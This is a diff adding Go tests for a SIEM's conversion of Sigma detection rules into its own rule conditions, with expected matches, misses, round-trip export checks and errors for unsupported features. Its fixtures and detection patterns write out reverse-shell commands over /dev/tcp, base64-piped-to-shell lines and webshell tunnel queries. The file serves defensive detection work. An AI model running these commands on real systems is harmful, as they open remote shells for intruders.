@@ -0,0 +1,253 @@
+package siem
+
+import (
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+	"gopkg.in/yaml.v3"
+	"traffic-monitoring-go/app/models"
+	"traffic-monitoring-go/app/siem/clock"
+)
+
+// readSigmaRule reads a rule of testdata/sigma, copied from the SigmaHQ repository
+func readSigmaRule(t *testing.T, name string) SigmaRule {
+	data, err := os.ReadFile(filepath.Join("testdata", "sigma", name))
+	require.NoError(t, err)
+	rules, err := ParseSigmaRules(data)
+	require.NoError(t, err)
+	require.Len(t, rules, 1)
+	return rules[0]
+}
+
+// sigmaTestEvent is an event with a message and the details Sigma fields are read from
+type sigmaTestEvent struct {
+	message string
+	details map[string]interface{}
+}
+
+// matches evaluates a converted condition against the event
+func (ev sigmaTestEvent) matches(t *testing.T, condition string) bool {
+	raw, err := json.Marshal(map[string]interface{}{"details": ev.details})
+	require.NoError(t, err)
+	node, err := parseCondition(condition)
+	require.NoError(t, err)
+	event := &models.SecurityEvent{Message: ev.message, RawData: string(raw)}
+	matched, err := node.evaluate(&EnhancedRuleEngine{Clock: clock.Default()}, newConditionEvent(event), &models.Rule{})
+	require.NoError(t, err)
+	return matched
+}
+
+func TestSigmaToRule(t *testing.T) {
+	tests := []struct {
+		file    string
+		want    models.Rule
+		matches []sigmaTestEvent
+		misses  []sigmaTestEvent
+	}{
+		{
+			// keywords are looked for in the message; the service names the category
+			file: "lnx_sshd_susp_ssh.yml",
+			want: models.Rule{
+				Name:       "Suspicious OpenSSH Daemon Error",
+				Category:   models.CategoryAuthentication,
+				Severity:   models.SeverityMedium,
+				Techniques: []string{"T1190"},
+				Condition: `message contains "unexpected internal error" OR message contains "unknown or unsupported key type" OR ` +
+					`message contains "invalid certificate signing key" OR message contains "invalid elliptic curve value" OR ` +
+					`message contains "incorrect signature" OR message contains "error in libcrypto" OR ` +
+					`message contains "unexpected bytes remain after decoding" OR message contains "fatal: buffer_get_string: bad string" OR ` +
+					`message contains "Local: crc32 compensation attack" OR message contains "bad client public DH value" OR ` +
+					`message contains "Corrupted MAC on input"`,
+			},
+			matches: []sigmaTestEvent{{message: "sshd[811]: fatal: buffer_get_string: bad string length 262144"}},
+			misses:  []sigmaTestEvent{{message: "sshd[811]: Accepted publickey for admin"}},
+		},
+		{
+			// keywords with quotes, parentheses and escapes are quoted in the condition
+			file: "lnx_susp_dev_tcp.yml",
+			want: models.Rule{
+				Name:     "Suspicious Use of /dev/tcp",
+				Category: models.CategorySystem,
+				Severity: models.SeverityMedium,
+				Condition: `message contains "cat </dev/tcp/" OR message contains "exec 3<>/dev/tcp/" OR ` +
+					`message contains "echo >/dev/tcp/" OR message contains "bash -i >& /dev/tcp/" OR ` +
+					`message contains "sh -i >& /dev/udp/" OR message contains "0<&196;exec 196<>/dev/tcp/" OR ` +
+					`message contains "exec 5<>/dev/tcp/" OR message contains "(sh)0>/dev/tcp/" OR ` +
+					`message contains "bash -c 'bash -i >& /dev/tcp/" OR message contains "echo -e '#!/bin/bash\\nbash -i >& /dev/tcp/"`,
+			},
+			matches: []sigmaTestEvent{
+				{message: "bash -c 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1'"},
+				{message: "(sh)0>/dev/tcp/10.0.0.1/4242"},
+				{message: `echo -e '#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/4242'`},
+			},
+			misses: []sigmaTestEvent{{message: "cat /etc/services"}},
+		},
+		{
+			// all of a wildcard, with lists of selections and value lists
+			file: "proc_creation_lnx_base64_execution.yml",
+			want: models.Rule{
+				Name:       "Linux Base64 Encoded Pipe to Shell",
+				Category:   models.CategorySystem,
+				Severity:   models.SeverityMedium,
+				Techniques: []string{"T1140"},
+				Condition: `(details.CommandLine contains "base64 ") AND ` +
+					`(((details.CommandLine contains "| bash " OR details.CommandLine contains "| sh " OR details.CommandLine contains "|bash " OR details.CommandLine contains "|sh ")) OR ` +
+					`((details.CommandLine endswith " |sh" OR details.CommandLine endswith "| bash" OR details.CommandLine endswith "| sh" OR details.CommandLine endswith "|bash")))`,
+			},
+			matches: []sigmaTestEvent{
+				{details: map[string]interface{}{"CommandLine": "echo ZWNobyBoaQ== | base64 -d | bash"}},
+				{details: map[string]interface{}{"CommandLine": "base64 -d payload.b64 |sh -s"}},
+			},
+			misses: []sigmaTestEvent{
+				{details: map[string]interface{}{"CommandLine": "base64 -d payload.b64 > payload"}},
+				{details: map[string]interface{}{"CommandLine": "cat script | bash"}},
+				{message: "base64 -d payload.b64 | bash"},
+			},
+		},
+		{
+			file: "proc_creation_lnx_base64_shebang_cli.yml",
+			want: models.Rule{
+				Name:       "Linux Base64 Encoded Shebang In CLI",
+				Category:   models.CategorySystem,
+				Severity:   models.SeverityMedium,
+				Techniques: []string{"T1140"},
+				Condition: `(details.CommandLine contains "IyEvYmluL2Jhc2" OR details.CommandLine contains "IyEvYmluL2Rhc2" OR ` +
+					`details.CommandLine contains "IyEvYmluL3pza" OR details.CommandLine contains "IyEvYmluL2Zpc2" OR details.CommandLine contains "IyEvYmluL3No")`,
+			},
+			matches: []sigmaTestEvent{{details: map[string]interface{}{"CommandLine": "echo IyEvYmluL2Jhc2gKaWQK | base64 -d"}}},
+			misses:  []sigmaTestEvent{{details: map[string]interface{}{"CommandLine": "echo aWQK | base64 -d"}}},
+		},
+		{
+			// the fields of one selection must all match
+			file: "proc_creation_lnx_crontab_removal.yml",
+			want: models.Rule{
+				Name:      "Remove Scheduled Cron Task/Job",
+				Category:  models.CategorySystem,
+				Severity:  models.SeverityMedium,
+				Condition: `details.CommandLine contains " -r" AND details.Image endswith "crontab"`,
+			},
+			matches: []sigmaTestEvent{{details: map[string]interface{}{"Image": "/usr/bin/crontab", "CommandLine": "crontab -r"}}},
+			misses: []sigmaTestEvent{
+				{details: map[string]interface{}{"Image": "/usr/bin/crontab", "CommandLine": "crontab -l"}},
+				{details: map[string]interface{}{"Image": "/bin/rm", "CommandLine": "rm -rf /tmp/x"}},
+			},
+		},
+		{
+			// a backslash before a character that is no wildcard is kept
+			file: "proc_creation_win_whoami_execution.yml",
+			want: models.Rule{
+				Name:       "Whoami Utility Execution",
+				Category:   models.CategorySystem,
+				Severity:   models.SeverityLow,
+				Techniques: []string{"T1033"},
+				Condition:  `(details.Image endswith "\\whoami.exe") OR (details.OriginalFileName = "whoami.exe")`,
+			},
+			matches: []sigmaTestEvent{
+				{details: map[string]interface{}{"Image": `C:\Windows\System32\whoami.exe`}},
+				{details: map[string]interface{}{"Image": `C:\Temp\renamed.exe`, "OriginalFileName": "whoami.exe"}},
+			},
+			misses: []sigmaTestEvent{{details: map[string]interface{}{"Image": `C:\Windows\System32\notwhoami.exe.bak`}}},
+		},
+		{
+			// ? is a wildcard, and null fields test for missing ones
+			file: "web_webshell_regeorg.yml",
+			want: models.Rule{
+				Name:       "Webshell ReGeorg Detection Via Web Logs",
+				Category:   models.CategoryNetwork,
+				Severity:   models.SeverityHigh,
+				Techniques: []string{"T1505.003"},
+				Condition: `((details.cs-uri-query matches "^.*.cmd=read.*$" OR details.cs-uri-query matches "^.*.cmd=connect.*$" OR ` +
+					`details.cs-uri-query matches "^.*.cmd=disconnect.*$" OR details.cs-uri-query matches "^.*.cmd=forward.*$")) AND ` +
+					`(details.cs-method = "POST" AND details.cs-referer is null AND details.cs-user-agent is null)`,
+			},
+			matches: []sigmaTestEvent{{details: map[string]interface{}{"cs-uri-query": "/tunnel.jsp?cmd=connect&target=10.0.0.5", "cs-method": "POST"}}},
+			misses: []sigmaTestEvent{
+				{details: map[string]interface{}{"cs-uri-query": "/tunnel.jsp?cmd=connect", "cs-method": "POST", "cs-user-agent": "curl/8.0"}},
+				{details: map[string]interface{}{"cs-uri-query": "/tunnel.jsp?cmd=connect", "cs-method": "GET"}},
+				{details: map[string]interface{}{"cs-uri-query": "/search?q=cmd", "cs-method": "POST"}},
+			},
+		},
+		{
+			// a count by field becomes a window aggregate; a lone * matches any value
+			file: "net_dns_high_requests_rate.yml",
+			want: models.Rule{
+				Name:       "High DNS Requests Rate",
+				Category:   models.CategoryNetwork,
+				Severity:   models.SeverityMedium,
+				Techniques: []string{"T1048.003", "T1071.004"},
+				Condition:  `details.query contains "" AND count(source_ip, 1m) > 1000`,
+			},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.file, func(t *testing.T) {
+			sigma := readSigmaRule(t, tt.file)
+			rule, err := sigma.ToRule("")
+			require.NoError(t, err)
+
+			assert.Equal(t, tt.want.Name, rule.Name)
+			assert.Equal(t, tt.want.Category, rule.Category)
+			assert.Equal(t, []models.EventCategory{tt.want.Category}, rule.Scope.Categories)
+			assert.Equal(t, tt.want.Severity, rule.Severity)
+			assert.Equal(t, models.RuleStatusDisabled, rule.Status, "imported rules wait for review")
+			assert.Equal(t, tt.want.Techniques, []string(rule.Techniques))
+			assert.Equal(t, tt.want.Condition, rule.Condition)
+
+			for _, event := range tt.matches {
+				assert.True(t, event.matches(t, rule.Condition), "should match %+v", event)
+			}
+			for _, event := range tt.misses {
+				assert.False(t, event.matches(t, rule.Condition), "should not match %+v", event)
+			}
+
+			// exporting the rule and importing it again keeps what it matches
+			exported, err := RuleToSigma(rule)
+			require.NoError(t, err)
+			document, err := yaml.Marshal(exported)
+			require.NoError(t, err)
+			reimported, err := ParseSigmaRules(document)
+			require.NoError(t, err)
+			again, err := reimported[0].ToRule(rule.Category)
+			require.NoError(t, err, "exported as:\n%s", document)
+			for _, event := range append(tt.matches, tt.misses...) {
+				assert.Equal(t, event.matches(t, rule.Condition), event.matches(t, again.Condition),
+					"%+v after a round trip through:\n%s", event, document)
+			}
+		})
+	}
+}
+
+func TestSigmaUnsupported(t *testing.T) {
+	tests := []struct {
+		file     string
+		category models.EventCategory
+		err      string
+	}{
+		{"win_security_susp_failed_logon_source.yml", "",
+			`search "filter_main_local_ranges": unsupported modifier "cidr" on IpAddress`},
+		{"proc_creation_win_powershell_base64_iex.yml", "",
+			`search "selection": unsupported modifier "base64offset" on CommandLine`},
+		{"net_firewall_susp_network_scan_by_ip.yml", "",
+			`unsupported aggregation "count(dst_ip) by src_ip > 10", only count() by <field> <op> <number> converts`},
+		{"modsec_multiple_blocks.yml", "",
+			`unsupported aggregation "count() > 6", only count() by <field> <op> <number> converts`},
+		{"win_system_susp_rare_service_installs.yml", "",
+			"no event category for log source {Category: Product:windows Service:system}, pass one with ?category="},
+		{"win_system_susp_rare_service_installs.yml", models.CategorySystem,
+			`unsupported aggregation "count() by ServiceName < 5": invalid aggregate window "168h", expected a duration such as 30s, 5m or 1h up to 24h`},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.file+" "+string(tt.category), func(t *testing.T) {
+			sigma := readSigmaRule(t, tt.file)
+			_, err := sigma.ToRule(tt.category)
+			require.Error(t, err)
+			assert.Equal(t, tt.err, err.Error())
+		})
+	}
+}